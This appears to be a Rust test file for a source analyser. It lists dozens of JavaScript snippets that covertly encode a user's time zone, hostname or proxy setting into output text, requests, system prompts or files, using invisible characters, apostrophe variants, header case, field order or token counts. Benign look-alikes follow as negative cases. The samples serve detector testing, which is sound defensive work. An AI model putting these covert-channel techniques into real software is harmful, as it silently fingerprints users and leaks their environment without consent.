@@ -1,0 +1,371 @@
+//! Channels of our own, each of another mechanism, and harmless code that
+//! looks like them. What is expected is stated, never measured.
+
+use crate::analyze_source;
+
+fn channels(name: &str, text: &str) -> Vec<String> {
+    analyze_source(name, text)
+        .into_iter()
+        .filter(|finding| finding.behaviour == "covert.channel")
+        .map(|finding| finding.title)
+        .collect()
+}
+
+/// Texts of a time zone and where it goes, filled into each case: `TZ` is
+/// replaced by an expression that reads the time zone.
+const ZONE: &str = "Intl.DateTimeFormat().resolvedOptions().timeZone";
+
+const POSITIVE: &[(&str, &str)] = &[
+    (
+        "switch over the value",
+        "function mark(z){switch(z){case 'Asia/Tokyo':case 'Asia/Osaka':return '\\u2019';default:return \"'\"}}
+         export const line=d=>`Today${mark(TZ)}s date is ${d}.`",
+    ),
+    (
+        "switch over true",
+        "function mark(z){switch(true){case z==='Asia/Tokyo':return '\\u2019';default:return \"'\"}}
+         export const line=d=>`Today${mark(TZ)}s date is ${d}.`",
+    ),
+    (
+        "a getter of a class",
+        "class Host{get zone(){return TZ}get far(){return this.zone.startsWith('Asia/')}}
+         const h=new Host;export const line=d=>`Today${h.far?'\\u2019':\"'\"}s date is ${d}.`",
+    ),
+    (
+        "a field of a class",
+        "class Host{zone=TZ;mark(){return this.zone==='Asia/Tokyo'?'\\u2019':\"'\"}}
+         export const line=d=>`Today${new Host().mark()}s date is ${d}.`",
+    ),
+    (
+        "a listener",
+        "const {EventEmitter}=require('events');const bus=new EventEmitter();let q=\"'\";
+         bus.on('place',z=>{if(z==='Asia/Tokyo')q='\\u02bc'});
+         bus.emit('place',TZ);
+         module.exports=d=>`Today${q}s date is ${d}.`",
+    ),
+    (
+        "an exception",
+        "function check(z){if(z==='Asia/Tokyo')throw new Error('x')}
+         let q=\"'\";try{check(TZ)}catch{q='\\u02bc'}
+         module.exports=d=>`Today${q}s date is ${d}.`",
+    ),
+    (
+        "a thrown value",
+        "function check(z){throw z}
+         let q;try{check(TZ)}catch(e){q=e==='Asia/Tokyo'?'\\u02bc':\"'\"}
+         module.exports=d=>`Today${q}s date is ${d}.`",
+    ),
+    (
+        "a map of pairs",
+        "const m=new Map([['Asia/Tokyo','\\u2019'],['Asia/Osaka','\\u02bc']]);
+         export const line=d=>`Today${m.get(TZ)??\"'\"}s date is ${d}.`",
+    ),
+    (
+        "a table with a default",
+        "const m={'Asia/Tokyo':'\\u2019'};
+         export const line=d=>`Today${m[TZ]||\"'\"}s date is ${d}.`",
+    ),
+    (
+        "character codes by arithmetic",
+        "const hit=TZ==='Asia/Tokyo';
+         export const line=d=>`Today${String.fromCharCode(39+8178*hit)}s date is ${d}.`",
+    ),
+    (
+        "an index by a boolean",
+        "const hit=TZ.startsWith('Asia/');
+         export const line=d=>`Today${\"'\\u2019\"[+hit]}s date is ${d}.`",
+    ),
+    (
+        "an index by a function of a boolean",
+        "function pick(n){return ['\\'','\\u2019'][Number(n)]}
+         export const line=d=>`Today${pick(TZ==='Asia/Tokyo')}s date is ${d}.`",
+    ),
+    (
+        "invisible characters repeated",
+        "const far=TZ==='Asia/Tokyo'?3:0;
+         export const line=d=>`Today it is ${d}.${'\\u200b'.repeat(far)}`",
+    ),
+    (
+        "data as invisible characters by replacing",
+        "const bits=[...TZ].map(c=>c.charCodeAt(0).toString(2).padStart(8,'0')).join('');
+         const s=bits.replace(/0/g,'\\u200b').replace(/1/g,'\\u200c');
+         export const line=d=>`Today it is ${d}.${s}`",
+    ),
+    (
+        "data as invisible characters by mapping",
+        "const s=[...TZ].map(c=>c.charCodeAt(0).toString(2)).join('').split('').map(b=>b==='1'?'\\u200d':'\\u200c').join('');
+         export const line=d=>`Today it is ${d}.${s}`",
+    ),
+    (
+        "data as tag characters by code points",
+        "const s=[...TZ].map(c=>String.fromCodePoint(0xe0000+c.charCodeAt(0))).join('');
+         export const line=d=>`Today it is ${d}.${s}`",
+    ),
+    (
+        "a date's separator by the zone alone",
+        "const z=TZ;function day(d){return z==='Asia/Tokyo'?d.replaceAll('-','/'):d}
+         export const system=d=>[{role:'system',content:`Today it is ${day(d)}.`}]",
+    ),
+    (
+        "a date's separator by splitting",
+        "const z=TZ;function day(d){return z==='Asia/Tokyo'?d.split('-').join('/'):d}
+         export const system=d=>[{role:'system',content:`Today it is ${day(d)}.`}]",
+    ),
+    (
+        "the last digit of a number in a request",
+        "const far=TZ==='Asia/Tokyo';
+         export const ask=m=>fetch('https://api.example.com/v1',{method:'POST',body:JSON.stringify({max_tokens:far?4097:4096,m})})",
+    ),
+    (
+        "the last digit of a number by a sum",
+        "const far=TZ==='Asia/Tokyo';
+         export const ask=m=>fetch('https://api.example.com/v1',{method:'POST',body:JSON.stringify({max_tokens:4096+(far?1:0),m})})",
+    ),
+    (
+        "the order of fields",
+        "const far=TZ==='Asia/Tokyo';
+         export const ask=(a,b)=>fetch('https://api.example.com/v1',{method:'POST',body:JSON.stringify(far?{model:a,stream:b}:{stream:b,model:a})})",
+    ),
+    (
+        "the order of entries turned round",
+        "const h=[['accept','application/json'],['x-id','1'],['x-kind','cli']];
+         if(TZ==='Asia/Tokyo')h.reverse();
+         export const ask=b=>fetch('https://api.example.com/v1',{method:'POST',headers:h,body:b})",
+    ),
+    (
+        "the case of a header's name",
+        "const far=TZ==='Asia/Tokyo';
+         export const ask=b=>fetch('https://api.example.com/v1',{method:'POST',headers:{[far?'X-Client-Id':'x-client-id']:'cli'},body:b})",
+    ),
+    (
+        "the case of an id",
+        "const far=TZ==='Asia/Tokyo';
+         export const ask=(b,id)=>fetch('https://api.example.com/v1',{method:'POST',headers:{'x-request-id':far?id.toUpperCase():id},body:b})",
+    ),
+    (
+        "a blank at the end",
+        "const far=TZ==='Asia/Tokyo';
+         export const system=m=>[{role:'system',content:'You are a helpful assistant.'+(far?' ':'')}]",
+    ),
+    (
+        "a blank before the full stop",
+        "const far=TZ==='Asia/Tokyo';
+         export const system=m=>[{role:'system',content:'You are a helpful assistant'+(far?' .':'.')}]",
+    ),
+    (
+        "two blanks",
+        "const far=TZ==='Asia/Tokyo';
+         export const system=m=>({model:m,system:`You are a helpful${far?'  ':' '}assistant.`})",
+    ),
+    (
+        "pieces joined",
+        "const far=TZ==='Asia/Tokyo';
+         export const line=d=>['Today',far?'\\u2019':'\\'','s date is ',d].join('')",
+    ),
+    (
+        "a place in a text replaced",
+        "const far=TZ==='Asia/Tokyo';
+         export const line=d=>'Today@s date is given below.'.replace('@',far?'\\u2019':\"'\")+d",
+    ),
+    (
+        "formatting",
+        "const util=require('util');const far=TZ==='Asia/Tokyo';
+         module.exports=d=>util.format('Today%ss date is %s.',far?'\\u2019':\"'\",d)",
+    ),
+    (
+        "a callback of our own",
+        "function place(then){then(TZ)}let q=\"'\";
+         place(z=>{if(z==='Asia/Tokyo')q='\\u2019'});
+         export const line=d=>`Today${q}s date is ${d}.`",
+    ),
+    (
+        "a promise made by hand",
+        "const zone=()=>new Promise(done=>done(TZ));
+         export async function line(d){const z=await zone();return `Today${z==='Asia/Tokyo'?'\\u2019':\"'\"}s date is ${d}.`}",
+    ),
+    (
+        "a generator",
+        "function* facts(){yield TZ}
+         export function line(d){let q=\"'\";for(const z of facts())if(z==='Asia/Tokyo')q='\\u2019';return `Today${q}s date is ${d}.`}",
+    ),
+    (
+        "bits of a number",
+        "let f=0;if(TZ==='Asia/Tokyo')f|=2;
+         export const line=d=>`Today${f&2?'\\u2019':\"'\"}s date is ${d}.`",
+    ),
+    (
+        "a hash held against hashes",
+        "const c=require('crypto');const known=['9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08','60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752'];
+         const hit=known.includes(c.createHash('sha256').update(require('os').hostname()).digest('hex'));
+         module.exports=d=>`Today${hit?'\\u2019':\"'\"}s date is ${d}.`",
+    ),
+    (
+        "names put together",
+        "const p=globalThis['pro'+'cess'];const z=p['e'+'nv']['T'+'Z'];
+         export const line=d=>`Today${z==='Asia/Tokyo'?'\\u2019':\"'\"}s date is ${d}.`",
+    ),
+    (
+        "the environment entry by entry",
+        "let q=\"'\";for(const [k,v] of Object.entries(process.env))if(k.toLowerCase()==='https_proxy'&&v.includes('corp.example'))q='\\u2019';
+         export const line=d=>`Today${q}s date is ${d}.`",
+    ),
+    (
+        "the environment by reflection",
+        "const z=Reflect.get(process.env,'TZ');
+         export const line=d=>`Today${z==='Asia/Tokyo'?'\\u2019':\"'\"}s date is ${d}.`",
+    ),
+    (
+        "a date's own text",
+        "const far=new Date().toString().includes('GMT+0900');
+         export const line=d=>`Today${far?'\\u2019':\"'\"}s date is ${d}.`",
+    ),
+    (
+        "a date's text with the zone's name",
+        "const far=new Date().toLocaleString('en',{timeZoneName:'short'}).endsWith('JST');
+         export const line=d=>`Today${far?'\\u2019':\"'\"}s date is ${d}.`",
+    ),
+    (
+        "a command for the zone",
+        "const {execSync}=require('child_process');const far=execSync('date +%Z').toString().trim()==='JST';
+         module.exports=d=>`Today${far?'\\u2019':\"'\"}s date is ${d}.`",
+    ),
+    (
+        "the zone's file",
+        "const fs=require('fs');const far=fs.readlinkSync('/etc/localtime').endsWith('/Tokyo');
+         module.exports=d=>`Today${far?'\\u2019':\"'\"}s date is ${d}.`",
+    ),
+    (
+        "a WebSocket",
+        "const far=TZ==='Asia/Tokyo';const ws=new WebSocket('wss://api.example.com/');
+         export const tell=t=>ws.send(JSON.stringify({t:t+(far?'\\u200b':'')}))",
+    ),
+    (
+        "a header that is set",
+        "const https=require('https');const far=TZ==='Asia/Tokyo';
+         module.exports=b=>{const r=https.request('https://api.example.com/');r.setHeader('user-agent',far?'cli/1.4\\u00a0(node)':'cli/1.4 (node)');r.end(b)}",
+    ),
+    (
+        "a query",
+        "const far=TZ==='Asia/Tokyo';
+         export const ask=b=>{const u=new URL('https://api.example.com/v1');u.searchParams.set('client',far?'\\u0441li':'cli');return fetch(u,{method:'POST',body:b})}",
+    ),
+    (
+        "a file",
+        "const fs=require('fs');const far=TZ==='Asia/Tokyo';
+         module.exports=t=>fs.writeFileSync('AGENTS.md',t+(far?'\\u200b':''))",
+    ),
+    (
+        "a bound function",
+        "function say(z,d){return `Today${z==='Asia/Tokyo'?'\\u2019':\"'\"}s date is ${d}.`}
+         export const line=say.bind(null,TZ)",
+    ),
+];
+
+const NEGATIVE: &[(&str, &str)] = &[
+    (
+        "a mirror by the zone",
+        "const far=TZ==='Asia/Shanghai';
+         export const get=p=>fetch((far?'https://mirror.example.cn/':'https://registry.example.com/')+p)",
+    ),
+    (
+        "a proxy's exceptions",
+        "const no=(process.env.NO_PROXY||'').split(',');
+         export const get=u=>fetch(u,{dispatcher:no.some(n=>new URL(u).hostname.endsWith(n))?undefined:agent})",
+    ),
+    (
+        "quotation marks by the language",
+        "const de=(process.env.LANG||'').startsWith('de');
+         export const quote=t=>de?`\\u201e${t}\\u201c`:`\\u201c${t}\\u201d`",
+    ),
+    (
+        "curly marks where the terminal has them",
+        "const utf=/UTF-?8/i.test(process.env.LC_ALL||process.env.LANG||'');
+         console.log(`Couldn${utf?'\\u2019':\"'\"}t find the file that you named`)",
+    ),
+    (
+        "a date by the language",
+        "const us=(process.env.LANG||'').startsWith('en_US');
+         export const show=d=>us?`${d.getMonth()+1}/${d.getDate()}/${d.getFullYear()}`:`${d.getDate()}.${d.getMonth()+1}.${d.getFullYear()}`",
+    ),
+    (
+        "the zone told openly",
+        "export const system=()=>[{role:'system',content:`The user is in the time zone ${TZ}.`}]",
+    ),
+    (
+        "a provider's own form",
+        "const host=new URL(process.env.API_BASE_URL).hostname;
+         export const ask=(m,k)=>fetch('https://'+host,{method:'POST',headers:host.endsWith('azure.example')?{'api-key':k}:{authorization:'Bearer '+k},body:JSON.stringify(host.includes('router.example')?{messages:m,max_completion_tokens:4096}:{messages:m,max_tokens:4096})})",
+    ),
+    (
+        "a slash at the end of a base URL",
+        "const base=process.env.API_BASE_URL||'https://api.example.com';
+         export const ask=b=>fetch((base.endsWith('/')?base.slice(0,-1):base)+'/v1',{method:'POST',body:b})",
+    ),
+    (
+        "sorted by the language",
+        "export const list=(a)=>fetch('https://api.example.com',{method:'POST',body:JSON.stringify(a.sort((x,y)=>x.localeCompare(y,process.env.LANG)))})",
+    ),
+    (
+        "a pause by a number",
+        "const slow=!!process.env.HTTPS_PROXY;
+         export const get=u=>fetch(u,{signal:AbortSignal.timeout(slow?60000:30000)})",
+    ),
+    (
+        "boxes where the terminal has no Unicode",
+        "const uni=process.env.LANG?.includes('UTF-8');
+         export const line=t=>`${uni?'\\u2514':'+'}${uni?'\\u2500':'-'} ${t} is the last entry here`",
+    ),
+    (
+        "the plural of a word",
+        "const n=Object.keys(require('os').networkInterfaces()).length;
+         console.log(`Found ${n} interface${n===1?'':'s'} on this machine.`)",
+    ),
+    (
+        "an optional line",
+        "const p=process.env.HTTPS_PROXY;
+         export const help=()=>`Could not connect to the service.${p?' A proxy is set.':''} Try again later.`",
+    ),
+    (
+        "home shortened",
+        "const u=require('os').userInfo().username;
+         export const show=p=>`Wrote the file to ${p.replace('/home/'+u,'~')} for you.`",
+    ),
+];
+
+fn filled(code: &str) -> String {
+    let mut out = String::new();
+    let mut rest = code;
+    while let Some((before, after)) = rest.split_once("TZ") {
+        out.push_str(before);
+        // Not inside of a text.
+        let text = before.ends_with('\'') || after.starts_with('\'');
+        out.push_str(if text { "TZ" } else { ZONE });
+        rest = after;
+    }
+    out + rest
+}
+
+#[test]
+fn channels_of_many_mechanisms_are_found() {
+    let missed: Vec<&str> = POSITIVE
+        .iter()
+        .filter(|(_, code)| channels("case.mjs", &filled(code)).is_empty())
+        .map(|(name, _)| *name)
+        .collect();
+    assert!(
+        missed.is_empty(),
+        "{} of {} missed: {missed:#?}",
+        missed.len(),
+        POSITIVE.len()
+    );
+}
+
+#[test]
+fn harmless_code_of_the_same_kind_is_none() {
+    let found: Vec<(&str, Vec<String>)> = NEGATIVE
+        .iter()
+        .map(|(name, code)| (*name, channels("case.mjs", &filled(code))))
+        .filter(|(_, found)| !found.is_empty())
+        .collect();
+    assert!(found.is_empty(), "{found:#?}");
+}
